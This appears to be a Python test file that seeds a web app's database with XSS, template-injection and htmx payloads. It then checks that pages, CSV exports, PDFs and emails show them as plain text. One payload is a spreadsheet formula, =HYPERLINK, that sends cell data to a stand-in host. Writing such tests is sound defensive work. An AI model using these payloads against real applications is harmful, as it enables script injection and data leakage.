"""Abuse cases X01 and X03: what people and organisations call themselves is a text in every place, and nothing else."""

from __future__ import annotations

import csv
import io

from components.data.database import execute, fetch
from tests.isolation.test_branches import _new
from tests.isolation.world import World, email
from tests.support.client import Answer, Cabinet
from tests.support.pages import parse
from tests.support.papers import Paper

# 1337 stands nowhere unless somebody has worked it out.
MARKUP = '<x01 hx-get="/x01" onload="x01()"></script><script>x01</script>{{7*191}}${7*191}#(7*191)'
FORMULA = '=HYPERLINK("http://x01.example/?"&A1)'
PAGES = (
    "/", "/users", "/users?view=table", "/users/new", "/contracts", "/services", "/invoices", "/payments", "/profile",
    "/journal", "/users?q=x01", "/journal?q=x01",
)  # fmt: skip


def _inert(markup: str) -> None:
    """No element, attribute or script of theirs; no expression was worked out."""
    tree = parse(markup)
    for element in tree.walk():
        assert element.tag != "x01"
        for name, value in element.attributes.items():
            assert not (name.startswith(("hx-", "on")) and value in ("/x01", "x01()")), (element.tag, name)
        if element.tag == "script":
            words = "".join(each for each in element.children if isinstance(each, str))
            assert words.strip() != "x01"
    assert "<x01" not in markup
    assert "1337" not in markup


async def test_a_name_is_a_text_wherever_it_stands(own_accounts: tuple[Cabinet, World]) -> None:
    cabinet, world = own_accounts
    for sql in (
        "UPDATE person SET first_name = :markup, last_name = :formula",
        "UPDATE membership SET first_name = :markup, last_name = :formula, position = :markup",
        "UPDATE customer SET name = :markup, city = :formula, street = :markup",
        "UPDATE contract SET product = :markup, subject = :markup",
        "UPDATE service SET name = :markup, tariff = :formula, address = :markup",
        "UPDATE invoice_line SET description = :markup",
        "UPDATE payment SET payer = :formula, reference = :markup",
        "UPDATE removal SET name = :markup",
    ):
        await execute(
            sql, **{name: value for name, value in (("markup", MARKUP), ("formula", FORMULA)) if f":{name}" in sql}
        )
    owner = await cabinet.sign_in(email("owner"))
    service, invoice = world.ids["service"]["own"][0], world.ids["invoice"]["own"][0]
    one = f"/users/{world.members['lead']}"
    shown = 0
    for address in (
        *PAGES,
        one,
        f"{one}/removal",
        f"{one}/place",
        f"{one}/ownership",
        f"/services/{service}?from=2026-01-31&to=2026-02-01",
        f"/invoices/{invoice}",
    ):
        for fragment in (False, True):
            answer = await owner.get(address, fragment=fragment)
            assert answer.status == 200, address
            _inert(answer.text)
            shown += "x01" in answer.text
    assert shown > 20, "the names are on these pages"
    await _sheets(await owner.get(f"/services/{service}/usage.csv"))
    paper = Paper((await owner.get(f"/invoices/{invoice}.pdf")).body)
    assert paper.says("{{7*191}}${7*191}#(7*191)"), "a sheet says the text as it was typed"
    assert "1337" not in paper.text


async def test_what_is_told_of_it_is_inert_too(own_accounts: tuple[Cabinet, World]) -> None:
    """The journal's before and after, its sheet, and both forms of the letters."""
    cabinet, world = own_accounts
    owner, one = await cabinet.sign_in(email("owner")), f"/users/{world.members['lead']}"
    await execute("UPDATE person SET first_name = :markup WHERE email = :email", markup=MARKUP, email=email("owner"))
    await execute("UPDATE customer SET name = :markup", markup=MARKUP)
    for address, form in (
        ("/users/new", _new("evil@new.example", first_name=MARKUP, last_name=FORMULA, position=FORMULA)),
        (one, [("first_name", MARKUP), ("last_name", FORMULA), ("role", "viewer"), ("reach", "all")]),
        (f"{one}/suspension", []),
        ("/profile", [("first_name", FORMULA), ("last_name", MARKUP)]),
    ):  # fmt: skip
        assert (await owner.post(address, form)).status == 303, address
    for address in ("/journal", "/journal?q=x01"):
        answer = await owner.get(address)
        _inert(answer.text)
        assert "x01" in answer.main.text
    await _sheets(await owner.get("/journal.csv"))
    letters = await fetch("SELECT * FROM message")
    assert len(letters) >= 2
    for each in letters:
        assert "1337" not in each["subject"] + each["text"] + each["html"]
        assert "\n" not in each["subject"]
        if each["html"]:
            _inert(each["html"])
            assert "x01" in each["html"]


async def _sheets(answer: Answer) -> None:
    assert answer.status == 200
    for row in csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))):
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], row
